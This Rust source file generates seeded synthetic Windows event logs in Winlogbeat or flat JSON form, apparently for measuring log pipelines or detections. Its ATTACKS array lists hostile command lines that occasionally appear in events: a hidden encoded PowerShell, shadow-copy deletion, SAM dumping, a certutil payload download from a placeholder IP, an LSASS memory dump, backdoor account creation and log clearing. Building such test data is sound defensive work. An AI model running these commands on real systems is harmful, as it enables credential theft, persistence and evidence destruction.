//! Windows events as a busy network writes them: seeded, so that two runs measure the same bytes.

use serde_json::{Map, Value, json};

/// A small generator of numbers.
struct Dice(u64);

impl Dice {
    fn roll(&mut self, sides: u64) -> u64 {
        self.0 = self
            .0
            .wrapping_mul(6_364_136_223_846_793_005)
            .wrapping_add(1_442_695_040_888_963_407);
        (self.0 >> 33) % sides
    }

    fn pick<'a>(&mut self, from: &[&'a str]) -> &'a str {
        from[self.roll(from.len() as u64) as usize]
    }
}

/// How a document is written.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Shape {
    Winlogbeat,
    Flat,
}

pub struct Generator {
    dice: Dice,
    number: u64,
}

const IMAGES: [&str; 16] = [
    r"C:\Windows\System32\svchost.exe",
    r"C:\Windows\System32\cmd.exe",
    r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe",
    r"C:\Program Files\Google\Chrome\Application\chrome.exe",
    r"C:\Windows\explorer.exe",
    r"C:\Windows\System32\conhost.exe",
    r"C:\Windows\System32\taskhostw.exe",
    r"C:\Program Files (x86)\Microsoft\Edge\Application\msedge.exe",
    r"C:\Windows\System32\rundll32.exe",
    r"C:\Windows\System32\wbem\WmiPrvSE.exe",
    r"C:\Program Files\Microsoft Office\root\Office16\WINWORD.EXE",
    r"C:\Program Files\Windows Defender\MsMpEng.exe",
    r"C:\Windows\System32\services.exe",
    r"C:\Windows\System32\SearchIndexer.exe",
    r"C:\Program Files\7-Zip\7zFM.exe",
    r"C:\Windows\System32\backgroundTaskHost.exe",
];
const ATTACKS: [&str; 8] = [
    "powershell.exe -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQA",
    "vssadmin.exe delete shadows /all /quiet",
    "whoami /all",
    "reg save HKLM\\SAM C:\\Users\\Public\\sam.hiv",
    "certutil -urlcache -split -f http://203.0.113.7/a.exe C:\\Users\\Public\\a.exe",
    "rundll32.exe C:\\windows\\system32\\comsvcs.dll, MiniDump 624 C:\\temp\\l.dmp full",
    "net user support P@ssw0rd1 /add",
    "wevtutil cl Security",
];
const USERS: [&str; 6] = [
    "aigerim",
    "daulet",
    "SYSTEM",
    "WS-01$",
    "svc_backup",
    "k.timur",
];
const SYSMON: &str = "Microsoft-Windows-Sysmon";
const AUDITING: &str = "Microsoft-Windows-Security-Auditing";

impl Generator {
    pub fn new(seed: u64) -> Self {
        Generator {
            dice: Dice(seed),
            number: 0,
        }
    }

    /// The next document, on one line.
    pub fn document(&mut self, shape: Shape) -> String {
        self.number += 1;
        let number = self.number;
        let kinds: [(u32, u64); 12] = [
            (1, 18),
            (3, 14),
            (7, 12),
            (10, 6),
            (11, 12),
            (12, 4),
            (13, 12),
            (22, 5),
            (4624, 8),
            (4625, 1),
            (4688, 6),
            (4104, 2),
        ];
        let mut left = self.dice.roll(kinds.iter().map(|kind| kind.1).sum());
        let code = kinds.iter().find(|kind| {
            let found = left < kind.1;
            left = left.saturating_sub(kind.1);
            found
        });
        let code = code.map_or(1, |kind| kind.0);
        let (channel, provider) = match code {
            4104 => (
                "Microsoft-Windows-PowerShell/Operational",
                "Microsoft-Windows-PowerShell",
            ),
            4000.. => ("Security", AUDITING),
            _ => ("Microsoft-Windows-Sysmon/Operational", SYSMON),
        };
        let host = format!("ws-{:03}.corp.example", self.dice.roll(200));
        let seconds = number / 40;
        let time = format!(
            "2026-03-{:02}T{:02}:{:02}:{:02}.{:03}Z",
            1 + seconds / 86_400 % 28,
            seconds / 3_600 % 24,
            seconds / 60 % 60,
            seconds % 60,
            number * 25 % 1_000
        );
        let data = self.data(code, &time);
        match shape {
            Shape::Flat => {
                let mut document = json!({
                    "EventID": code, "Channel": channel, "Provider_Name": provider, "Computer": host,
                    "EventRecordID": number, "SystemTime": time, "Level": 4, "Version": 5,
                });
                if let Some(document) = document.as_object_mut() {
                    document.extend(data);
                }
                document.to_string()
            }
            Shape::Winlogbeat => json!({
                "@timestamp": time,
                "@metadata": {"beat": "winlogbeat", "type": "_doc", "version": "8.19.0"},
                "agent": {
                    "type": "winlogbeat", "version": "8.19.0", "name": host,
                    "id": "5a9c1e6e-5d3e-4c66-9c70-0a1b4a0f9d11",
                    "ephemeral_id": "c1f2b7be-8c3a-4a8e-8f7d-9b2f1f2f3a44",
                },
                "ecs": {"version": "8.0.0"},
                "event": {"code": code.to_string(), "kind": "event", "provider": provider, "created": time},
                "host": {"name": host},
                "log": {"level": "information"},
                "winlog": {
                    "api": "wineventlog", "channel": channel, "provider_name": provider,
                    "provider_guid": "{5770385f-c22a-43e0-bf4c-06f5698ffbd9}",
                    "computer_name": host, "event_id": code.to_string(), "record_id": number, "opcode": "Info",
                    "process": {"pid": 3_120, "thread": {"id": 3_000 + number % 40}}, "version": 5,
                    "user": {"identifier": "S-1-5-18", "name": "SYSTEM", "domain": "NT AUTHORITY", "type": "User"},
                    "event_data": data,
                },
            })
            .to_string(),
        }
    }

    fn data(&mut self, code: u32, time: &str) -> Map<String, Value> {
        let dice = &mut self.dice;
        let mut data = Map::new();
        let mut put = |name: &str, value: String| {
            data.insert(name.to_owned(), value.into());
        };
        let guid = |number: u64| {
            format!(
                "{{0197231E-{:04X}-6928-A50B-{number:012X}}}",
                number % 65_521
            )
        };
        let process = dice.roll(60_000);
        let image = dice.pick(&IMAGES);
        let user = dice.pick(&USERS);
        let name = |image: &str| image.rsplit('\\').next().unwrap_or_default().to_owned();
        if code < 4_000 {
            put("RuleName", "-".into());
            put(
                "UtcTime",
                time.replace('T', " ").trim_end_matches('Z').to_owned(),
            );
        }
        if matches!(code, 1 | 3 | 7 | 11 | 12 | 13 | 22) {
            put("ProcessGuid", guid(process));
            put("ProcessId", (process % 20_000).to_string());
            put("Image", image.to_owned());
            put("User", format!("CORP\\{user}"));
        }
        match code {
            1 => {
                let parent = dice.pick(&IMAGES);
                let usual = match dice.roll(3) {
                    0 => format!("{image} -k netsvcs -p -s Schedule"),
                    1 => format!(
                        "\"{image}\" --type=renderer --lang=ru --device-scale-factor=1 --num-raster-threads=4 --renderer-client-id={}",
                        dice.roll(5_000)
                    ),
                    _ => format!(
                        "{image} /c \"C:\\Program Files\\Agent\\run.cmd\" {}",
                        dice.roll(400)
                    ),
                };
                let line = if dice.roll(400) == 0 {
                    dice.pick(&ATTACKS).to_owned()
                } else {
                    usual
                };
                put("CommandLine", line);
                put("CurrentDirectory", "C:\\Windows\\system32\\".into());
                put(
                    "FileVersion",
                    "10.0.19041.1806 (WinBuild.160101.0800)".into(),
                );
                put("Description", "Host Process for Windows Services".into());
                put("Product", "Microsoft® Windows® Operating System".into());
                put("Company", "Microsoft Corporation".into());
                put("OriginalFileName", name(image));
                put("LogonGuid", guid(process % 300));
                put("LogonId", format!("0x{:x}", process % 300));
                put("TerminalSessionId", "1".into());
                put(
                    "IntegrityLevel",
                    dice.pick(&["System", "Medium", "High"]).to_owned(),
                );
                let hash = dice.roll(3_000);
                put(
                    "Hashes",
                    format!(
                        "SHA1={hash:040X},MD5={hash:032X},SHA256={hash:064X},IMPHASH={:032X}",
                        hash % 50
                    ),
                );
                put("ParentProcessGuid", guid(process / 7));
                put("ParentProcessId", (process / 7).to_string());
                put("ParentImage", parent.to_owned());
                put("ParentCommandLine", format!("{parent} -Embedding"));
                put("ParentUser", "NT AUTHORITY\\SYSTEM".into());
            }
            3 => {
                put("Protocol", dice.pick(&["tcp", "udp"]).to_owned());
                put("Initiated", "true".into());
                put("SourceIsIpv6", "false".into());
                put(
                    "SourceIp",
                    format!("10.1.{}.{}", dice.roll(8), 1 + dice.roll(250)),
                );
                put("SourceHostname", "-".into());
                put("SourcePort", (49_152 + dice.roll(16_000)).to_string());
                put("SourcePortName", "-".into());
                put("DestinationIsIpv6", "false".into());
                put("DestinationIp", format!("198.51.100.{}", dice.roll(250)));
                put(
                    "DestinationHostname",
                    format!("host{}.corp.example", dice.roll(500)),
                );
                put(
                    "DestinationPort",
                    dice.pick(&["443", "80", "53", "445", "389", "88"])
                        .to_owned(),
                );
                put("DestinationPortName", "https".into());
            }
            7 => {
                let library = dice.pick(&[
                    "ntdll", "amsi", "combase", "dbghelp", "kernel32", "bcrypt", "rpcrt4", "user32",
                ]);
                put(
                    "ImageLoaded",
                    format!("C:\\Windows\\System32\\{library}.dll"),
                );
                put(
                    "FileVersion",
                    "10.0.19041.1806 (WinBuild.160101.0800)".into(),
                );
                put("Description", "Windows library".into());
                put("Product", "Microsoft® Windows® Operating System".into());
                put("Company", "Microsoft Corporation".into());
                put("OriginalFileName", format!("{library}.dll"));
                put("Hashes", format!("SHA256={:064X}", dice.roll(2_000)));
                put("Signed", "true".into());
                put("Signature", "Microsoft Windows".into());
                put("SignatureStatus", "Valid".into());
            }
            10 => {
                let target = if dice.roll(300) == 0 {
                    r"C:\Windows\system32\lsass.exe"
                } else {
                    dice.pick(&IMAGES)
                };
                put("SourceProcessGUID", guid(process));
                put("SourceProcessId", (process % 20_000).to_string());
                put("SourceThreadId", (process % 900).to_string());
                put("SourceImage", image.to_owned());
                put("TargetProcessGUID", guid(process / 3));
                put("TargetProcessId", (process / 3).to_string());
                put("TargetImage", target.to_owned());
                put(
                    "GrantedAccess",
                    dice.pick(&["0x1000", "0x1400", "0x1fffff", "0x1010"])
                        .to_owned(),
                );
                put(
                    "CallTrace",
                    format!(
                        "C:\\Windows\\SYSTEM32\\ntdll.dll+{:x}|C:\\Windows\\System32\\KERNELBASE.dll+{:x}|C:\\Windows\\System32\\KERNEL32.DLL+{:x}",
                        dice.roll(40),
                        dice.roll(40),
                        dice.roll(40)
                    ),
                );
            }
            11 => {
                let folder = dice.pick(&[
                    "AppData\\Local\\Temp",
                    "AppData\\Local\\Google\\Chrome\\User Data\\Default\\Cache",
                    "Documents",
                    "Downloads",
                ]);
                put(
                    "TargetFilename",
                    format!(
                        "C:\\Users\\{user}\\{folder}\\f_{:06x}.{}",
                        dice.roll(90_000),
                        dice.pick(&["tmp", "dat", "docx", "ps1", "log"])
                    ),
                );
                put("CreationUtcTime", time.replace('T', " "));
            }
            12 | 13 => {
                let key = if dice.roll(500) == 0 {
                    "HKU\\S-1-5-21-1\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\updater"
                        .to_owned()
                } else {
                    format!(
                        "HKLM\\System\\CurrentControlSet\\Services\\bam\\State\\UserSettings\\S-1-5-21-{}\\{}",
                        dice.roll(60),
                        name(image)
                    )
                };
                put("EventType", "SetValue".into());
                put("TargetObject", key);
                if code == 13 {
                    put("Details", format!("DWORD (0x{:08x})", dice.roll(5_000)));
                }
            }
            22 => {
                put("QueryName", format!("cdn{}.example.com", dice.roll(900)));
                put("QueryStatus", "0".into());
                put(
                    "QueryResults",
                    format!("::ffff:198.51.100.{};", dice.roll(250)),
                );
            }
            4624 | 4625 => {
                put("SubjectUserSid", "S-1-5-18".into());
                put("SubjectUserName", "WS-01$".into());
                put("SubjectDomainName", "CORP".into());
                put("SubjectLogonId", "0x3e7".into());
                put(
                    "TargetUserSid",
                    format!("S-1-5-21-1-{}", 1_000 + dice.roll(300)),
                );
                put("TargetUserName", user.to_owned());
                put("TargetDomainName", "CORP".into());
                put("TargetLogonId", format!("0x{:x}", dice.roll(1 << 30)));
                put("LogonType", dice.pick(&["3", "5", "2", "10"]).to_owned());
                put("LogonProcessName", "Kerberos".into());
                put("AuthenticationPackageName", "Kerberos".into());
                put("WorkstationName", "-".into());
                put("LogonGuid", guid(process));
                put("ProcessName", "-".into());
                put("IpAddress", format!("10.1.2.{}", dice.roll(250)));
                put("IpPort", dice.roll(65_000).to_string());
                if code == 4625 {
                    put("Status", "0xc000006d".into());
                    put("SubStatus", "0xc000006a".into());
                }
            }
            4688 => {
                put("SubjectUserSid", "S-1-5-18".into());
                put("SubjectUserName", user.to_owned());
                put("SubjectDomainName", "CORP".into());
                put("SubjectLogonId", "0x3e7".into());
                put("NewProcessId", format!("0x{:x}", process % 20_000));
                put("NewProcessName", image.to_owned());
                put("TokenElevationType", "%%1936".into());
                put("ProcessId", format!("0x{:x}", process / 3));
                put("CommandLine", format!("{image} /c run {}", dice.roll(800)));
                put("ParentProcessName", dice.pick(&IMAGES).to_owned());
                put("MandatoryLabel", "S-1-16-8192".into());
            }
            _ => {
                put("MessageNumber", "1".into());
                put("MessageTotal", "1".into());
                let number = dice.roll(3_000);
                put(
                    "ScriptBlockText",
                    format!(
                        "$x = Get-Item -Path 'C:\\data\\{number}'; $x | Select-Object Name, Length | Format-Table"
                    ),
                );
                put("ScriptBlockId", guid(process));
                put("Path", String::new());
            }
        }
        data
    }
}
